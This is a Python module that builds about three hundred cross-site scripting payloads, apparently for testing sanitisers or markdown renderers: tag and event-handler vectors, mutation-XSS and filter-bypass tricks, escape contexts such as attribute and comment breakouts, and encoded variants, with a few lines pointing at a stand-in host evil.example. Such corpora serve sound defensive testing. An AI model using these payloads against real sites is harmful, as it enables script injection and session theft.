"""Texts that run as scripts wherever a page takes text for markup: places to break out of × things that run.

Each calls `alert(n)` with its own number n, so that a browser can tell which of them ran.
"""

from __future__ import annotations

# What runs once it is markup. {n}: the payload's number.
VECTORS = (
    "<script>alert({n})</script>",
    "<ScRiPt/x>alert({n})</sCrIpT >",
    "<img src=x onerror=alert({n})>",
    "<img/src=x/onerror=alert`{n}`>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><a href=javascript:alert({n})><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert({n})></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>",
    "<math href=javascript:alert({n})>x</math>",
    "<iframe srcdoc='&lt;script&gt;parent.alert({n})&lt;/script&gt;'></iframe>",
    "<iframe src=javascript:parent.alert({n})></iframe>",
    "<object data=x onerror=alert({n})></object>",
    "<video src=x onerror=alert({n})></video>",
    "<audio><source onerror=alert({n})></audio>",
    "<details open ontoggle=alert({n})>x</details>",
    "<input autofocus onfocus=alert({n})>",
    "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart=alert({n})>x</b>",
    "<a href=\"javascript:alert({n})\">x</a>",
    "<a href=\"&#106;ava&#9;script&colon;alert({n})\">x</a>",
    "<a href=\"data:text/html,<script>alert({n})</script>\">x</a>",
    "<form action=javascript:alert({n})><button>x</button></form>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert({n})>\">",
    "<template><img src=x onerror=alert({n})></template>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert({n})\">",
    "<base href=//evil.example><script src=x.js></script>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
)  # fmt: skip

# Where the text may stand, and how to get out of there. {v}: the vector.
PLACES = (
    "{v}",
    "\"'>{v}",
    'x" {a} "',
    "' {a} '",
    "--></title></style></textarea></script>{v}",
    "]]>{v}<![CDATA[",
    "[여비]({j}) {v}",
    '![여비](x" {a} ") {v}',
    "`{v}` <{j}>",
    "제1항 | {v} | 비고",
    "<b>{v}</b><",
)

# What is no markup: entities, look-alikes, templates and addresses.
OTHERS = (
    "&lt;img src=x onerror=alert({n})&gt;",
    "&#60;script&#62;alert({n})&#60;/script&#62;",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "＜script＞alert({n})＜/script＞",
    "\u202e<img src=x onerror=alert({n})>",
    "<\u200bimg src=x onerror=alert({n})>",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "{{%% alert({n}) %%}} ${{alert({n})}} #{{alert({n})}} <%%= alert({n}) %%>",
    "';alert({n})//\\';alert({n})//\";alert({n})//",
    "</script><script>alert({n})</script>",
    "javascript:alert({n})",
    "JaVaScRiPt:/*--></title></style></textarea></script><svg/onload=alert({n})>*/",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{n}",
    "=HYPERLINK(\"javascript:alert({n})\")",
    "style=background:url(//evil.example/{n})",
)  # fmt: skip


def payloads() -> list[str]:
    """Some three hundred of them, all different."""
    made: list[str] = []
    for place in PLACES:
        for vector in VECTORS:
            number = len(made) + 1
            address, attribute = f"javascript:alert({number})", f"onmouseover=alert({number}) onerror=alert({number})"
            made.append(place.format(v=vector.format(n=number), j=address, a=attribute))
    made += [other.format(n=len(made) + at) for at, other in enumerate(OTHERS, start=1)]
    return list(dict.fromkeys(made))


def packs(size: int) -> list[list[str]]:
    """All of them, so many at a time."""
    made = payloads()
    return [made[at : at + size] for at in range(0, len(made), size)]
